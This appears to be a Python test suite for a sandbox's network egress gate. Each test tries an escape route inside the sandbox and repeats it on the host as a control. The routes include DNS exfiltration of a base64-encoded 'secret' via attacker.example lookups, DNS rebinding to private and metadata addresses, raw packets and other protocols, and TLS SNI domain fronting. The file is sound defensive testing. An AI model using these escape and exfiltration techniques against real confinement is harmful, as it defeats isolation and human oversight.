"""Ways out of a sandbox, each tried inside and, as a control, where there is no gate."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from llm_sandbox.network import NetworkRules

if TYPE_CHECKING:
    from collections.abc import Callable

    from llm_sandbox.egress.gate import Gate
    from tests.egress.conftest import World
    from tests.egress.namespaces import Namespace

    OpenGate = Callable[..., Gate]

PROGRAM = (Path(__file__).parent / "inside.py").read_text()
REFUSED = {"ECONNRESET", "ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "EPERM", "EACCES"}


def act(where: Namespace, *acts: tuple[Any, ...], user: int | None = 65534) -> list[str]:
    """Do one thing after the other, as an ordinary user; what came of each."""
    plan = json.dumps([(name, arguments) for name, *arguments in acts])
    return list(where.run(PROGRAM, plan, *([] if user is None else [user])))


def reasons(gate: Gate) -> set[tuple[str, str]]:
    return {(event.target, event.reason) for event in gate.events()}


def test_dns_carries_nothing_out(world: World, sandbox: Namespace, open_gate: OpenGate) -> None:
    """Neither as a name, nor to a server of the attacker's, over UDP or TCP."""
    gate = open_gate(NetworkRules.allow(domains=["ok.example", "**.safe.example"]))
    world.services.answers["ok.example"] = ["8.8.8.8"]
    attacks = [
        ("lookup", "c2VjcmV0.attacker.example"),
        ("lookup", "c2VjcmV0.ok.example"),
        ("lookup", "c2VjcmV0.attacker.example", "8.8.4.4"),
        ("lookup", "c2VjcmV0.attacker.example", "8.8.4.4", 16),
        ("lookup", "c2VjcmV0.attacker.example", "8.8.4.4", 1, True),
        ("lookup", "safe.example"),
    ]
    assert act(sandbox, *attacks) == ["NXDOMAIN"] * len(attacks)
    assert world.services.questions == []
    assert world.tunnel.datagrams == []
    assert ("c2VjcmV0.attacker.example".lower(), "name_not_listed") in reasons(gate)
    # What is allowed is looked up, and what comes back is not where it is.
    code, address = act(sandbox, ("lookup", "ok.example"))[0].split()
    assert (code, address.startswith("198.1")) == ("OK", True)
    over_tcp = ("lookup", "ok.example", "10.255.0.53", 1, True)
    assert act(sandbox, over_tcp) == [f"OK {address}"]
    assert set(world.services.questions) == {"ok.example"}

    act(world.host, ("udp", "8.8.4.4", 53, "c2VjcmV0"))
    assert world.tunnel.datagrams.pop() == b"c2VjcmV0"


def test_no_rebinding(world: World, sandbox: Namespace, open_gate: OpenGate) -> None:
    """A name whose address changes between two questions is judged by the one that is dialled."""
    gate = open_gate(NetworkRules.allow(domains=["**.example"]))
    answers = world.services.answers
    answers["inner.example"] = ["10.1.2.3"]
    answers["metadata.example"] = ["169.254.169.254"]
    answers["own.example"] = ["9.9.9.9"]
    answers["loop.example"] = ["127.0.0.1"]
    answers["six.example"] = ["fd00::5"]
    answers["translated.example"] = ["64:ff9b::a01:203"]
    answers["mapped.example"] = ["::ffff:10.1.2.3"]
    names = [name for name in answers if answers[name][0] != "8.8.8.8"]
    assert act(sandbox, *(("tcp", name) for name in names)) == ["ECONNRESET"] * len(names)
    assert {(name, "resolved_private") for name in names[:-1]} <= reasons(gate)

    # Public when looked up, private when connected to.
    answers["turning.example"] = ["8.8.8.8", "8.8.8.8", "10.1.2.3"]
    assert act(sandbox, ("tcp", "turning.example")) == ["reached 8.8.8.8"]
    deadline = time.monotonic() + 60
    while "reached 8.8.8.8" in act(sandbox, ("tcp", "turning.example")):
        answers["turning.example"] = ["10.1.2.3"]
        assert time.monotonic() < deadline, "the gate keeps an answer for ever"
        time.sleep(2)
    assert ("turning.example", "resolved_private") in reasons(gate)

    assert act(world.host, ("tcp", "10.1.2.3")) == ["reached 10.1.2.3"]
    if world.has_ipv6:
        assert act(world.host, ("tcp", "fd00::5")) == ["reached fd00::5"]
        answers["public.example"] = ["2606:4700::1111"]
        assert act(sandbox, ("tcp", "public.example")) == ["reached 2606:4700::1111"]


def test_the_internet_is_public_addresses_only(
    world: World, sandbox: Namespace, open_gate: OpenGate
) -> None:
    """Never the host by any of its addresses, nor metadata, private or shared ranges."""
    gate = open_gate(NetworkRules.internet())
    closed = ["9.9.9.9", "192.0.2.7", "10.1.2.3", "100.64.0.9", "169.254.169.254", "192.168.5.5"]
    ways = ("tcp", "mapped") if world.has_ipv6 else ("tcp",)
    attacks = [(way, address) for address in closed for way in ways]
    assert act(sandbox, *attacks) == ["ECONNRESET"] * len(attacks)
    assert act(world.host, *attacks) == [f"reached {address}" for _, address in attacks]
    assert reasons(gate) >= {("9.9.9.9", "own_address"), ("169.254.169.254", "private_address")}
    # The names that engines give the host, by whatever those lead to.
    answers = world.services.answers
    names = ["host.docker.internal", "gateway.docker.internal", "host.containers.internal"]
    answers.update(zip(names, [["192.0.2.7"], ["9.9.9.9"], ["127.0.0.1"]], strict=True))
    assert act(sandbox, *(("tcp", name) for name in names)) == ["ECONNRESET"] * 3
    assert {(name, "resolved_private") for name in names} <= reasons(gate)
    # Its own loopback is no way either; 0.0.0.0 is the same by another name.
    own = [("tcp", "127.0.0.1"), ("tcp", "0.0.0.0"), ("tcp", "127.0.0.53")]
    assert act(sandbox, *own) == ["ECONNREFUSED"] * 3

    assert act(sandbox, *((way, "8.8.8.8") for way in ways)) == ["reached 8.8.8.8"] * len(ways)
    # The control: who is told to, reaches the host by such a name.
    gate.update(NetworkRules.allow(hosts={names[0]: "192.0.2.7"}))
    assert act(sandbox, ("tcp", names[0])) == ["reached 192.0.2.7"]


def test_ipv6_leads_nowhere(world: World, sandbox: Namespace, open_gate: OpenGate) -> None:
    if not world.has_ipv6:
        pytest.skip("this kernel has no IPv6")
    open_gate(NetworkRules.internet())
    attacks = [("tcp", "2606:4700::1111"), ("tcp", "fd00::5"), ("tcp", "2620:fe::9")]
    assert act(sandbox, *attacks) == ["ENETUNREACH"] * 3
    assert act(world.host, *attacks[:2]) == ["reached 2606:4700::1111", "reached fd00::5"]


def test_other_protocols_are_refused_at_once(
    world: World, sandbox: Namespace, open_gate: OpenGate
) -> None:
    """Datagrams, echo requests, raw packets and raw frames, even with every capability inside."""
    open_gate(NetworkRules.internet())
    received = world.internet.datagrams
    received.clear()
    assert set(act(sandbox, ("udp", "8.8.8.8", 123), ("udp", "8.8.8.8", 443))) <= REFUSED
    assert set(act(sandbox, ("raw", "8.8.8.8"), ("raw", "8.8.8.8", "frame"))) <= REFUSED
    acts = [("raw", "8.8.8.8"), ("raw", "8.8.8.8", "frame"), ("ping", "8.8.8.8")]
    assert "answered" not in act(sandbox, *acts, user=None)
    # Other transports: what the kernel has of them ends here as well.
    mptcp, udplite = ("transport", "mptcp", "10.1.2.3"), ("transport", "udplite", "8.8.8.8", 123)
    others = [mptcp, udplite, ("transport", "sctp", "10.1.2.3"), ("transport", "dccp", "10.1.2.3")]
    missing = {"EPROTONOSUPPORT", "ESOCKTNOSUPPORT"}
    light = None
    with contextlib.suppress(OSError):  # not every kernel has it
        light = world.far.call(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136))
        light.bind(("8.8.8.8", 123))
        light.settimeout(0)
    assert set(act(sandbox, *others)) <= REFUSED | missing
    if light is not None:
        with pytest.raises(BlockingIOError):
            light.recv(100)
    assert received == []

    assert act(world.host, ("udp", "8.8.8.8", 123)) == ["hello"]
    assert act(world.host, *acts, user=None)[-1] == "answered"
    assert set(act(world.host, mptcp)) <= {"reached 10.1.2.3", *missing}
    if light is not None:
        with light:
            light.settimeout(30)
            act(world.host, udplite)
            assert light.recv(100) == b"hello\n"
    deadline = time.monotonic() + 30
    while {b"hello", b"raw ip", b"raw frame"} - set(received) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert {b"hello", b"raw ip", b"raw frame"} <= set(received)


def test_the_planted_sockets_are_no_way_in(
    world: World, sandbox: Namespace, open_gate: OpenGate
) -> None:
    """To connect to the gate's own port gets nobody to the host's."""
    open_gate(NetworkRules.allow(cidrs=["0.0.0.0/0", "127.0.0.0/8"]))
    listening = Path(f"/proc/{sandbox.holder.pid}/net/tcp").read_text().splitlines()[1:]
    ports = [int(line.split()[1].partition(":")[2], 16) for line in listening]
    assert len(ports) == 2
    for port in ports:
        world.services.serve("127.0.0.1", port, lambda sock: sock.sendall(b"reached the host\n"))
        assert act(world.host, ("tcp", "127.0.0.1", port)) == ["reached the host"]
    results = act(sandbox, *(("tcp", "127.0.0.1", port, True) for port in ports))
    assert sorted(results) == ["ECONNRESET", "ended"]
    # A broad range does not mean what is not public.
    assert act(sandbox, ("tcp", "8.8.8.8"), ("tcp", "10.1.2.3")) == [
        "reached 8.8.8.8",
        "ECONNRESET",
    ]


def test_another_name_by_tls(world: World, sandbox: Namespace, open_gate: OpenGate) -> None:
    """Who connects to an allowed name and asks its server for another one gets nothing there."""
    arrived: list[bytes] = []

    def keep_and_echo(sock: Any) -> None:
        data = b""
        while piece := sock.recv(65536):
            data += piece
        arrived.append(data)
        sock.sendall(data)

    world.internet.serve("8.8.8.8", 8443, keep_and_echo)
    world.services.answers["front.example"] = ["8.8.8.8"]
    gate = open_gate(NetworkRules.allow(domains=["front.example"]))
    attack, honest, nameless = (
        ("tls", "front.example", "hidden.example"),
        ("tls", "front.example", "front.example"),
        ("tls", "front.example", ""),
    )
    assert act(sandbox, attack) != ["echo"]
    assert ("front.example", "tls_name") in reasons(gate)
    assert gate.events()[-1].detail == "hidden.example"
    assert act(sandbox, honest, nameless) == ["echo", "echo"]
    gate.update(NetworkRules.allow(domains=["front.example"], tls="strict"))
    assert act(sandbox, honest) == ["echo"]
    assert act(sandbox, nameless) != ["echo"]
    assert not any(b"hidden.example" in data for data in arrived)
    # The control: with the comparison off, the server is asked for the other name.
    gate.update(NetworkRules.allow(domains=["front.example"], tls="off"))
    assert act(sandbox, attack) == ["echo"]
    assert b"hidden.example" in arrived[-1]


def test_a_dead_gate_is_a_closed_one(world: World, sandbox: Namespace, open_gate: OpenGate) -> None:
    gate = open_gate(NetworkRules.internet())
    assert act(sandbox, ("tcp", "8.8.8.8")) == ["reached 8.8.8.8"]
    os.kill(gate.pid, signal.SIGKILL)
    deadline = time.monotonic() + 30
    while gate.alive and time.monotonic() < deadline:
        time.sleep(0.01)
    assert act(sandbox, ("tcp", "8.8.8.8"), ("lookup", "a.example"), ("udp", "8.8.8.8", 123)) == [
        "ECONNREFUSED",
        "ECONNREFUSED",
        "EPERM",
    ]
    assert act(world.host, ("tcp", "8.8.8.8")) == ["reached 8.8.8.8"]


@pytest.mark.parametrize("redirect", [True, False], ids=["redirected", "port by port"])
def test_ports_and_ranges(
    world: World, sandbox: Namespace, open_gate: OpenGate, redirect: bool
) -> None:
    """The same holds where the kernel cannot redirect."""
    rules = NetworkRules.allow(
        domains=["web.example", "other.example:8080"],
        cidrs=["10.1.0.0/16", "8.8.4.4:8080", "9.9.9.0/24"],
        ports=[80],
        deny=["8.8.8.0/30", "web.example:8080"],
    )
    answers = world.services.answers
    answers["web.example"] = answers["other.example"] = ["8.8.8.8"]
    gate = open_gate(rules, redirect=redirect)
    acts = {
        ("tcp", "10.1.2.3", 80): "reached 10.1.2.3",
        ("tcp", "10.1.2.3", 8080): "port_not_listed",
        ("tcp", "8.8.4.4", 8080): "reached 8.8.4.4",
        ("tcp", "8.8.4.4", 80): "port_not_listed",
        ("tcp", "192.168.5.5", 80): "private_address",
        ("tcp", "9.9.9.9", 80): "own_address",
        ("tcp", "8.8.8.8", 80): "address_not_listed",
        ("tcp", "8.8.8.1", 80): "denied",
        ("tcp", "web.example", 80): "reached 8.8.8.8",
        ("tcp", "web.example", 8080): "denied",
        ("tcp", "other.example", 8080): "reached 8.8.8.8",
        ("tcp", "other.example", 80): "port_not_listed",
        ("lookup", "c2VjcmV0.example"): "NXDOMAIN",
        ("lookup", "web.example", "10.255.0.53", 28): "OK",
    }
    results = dict(zip(acts, act(sandbox, *acts), strict=True))
    found = {(event.target, event.port): event.reason for event in gate.events()}
    for what, expected in acts.items():
        if results[what] == "ECONNRESET":
            results[what] = found[what[1], what[2]]
        elif expected != results[what]:
            pytest.fail(f"{what}: {results[what]}, not {expected}")
    assert results == acts
    if not redirect:
        assert (
            act(sandbox, ("tcp", "10.1.2.3", 8443), ("udp", "8.8.8.8", 123)) == ["ECONNREFUSED"] * 2
        )
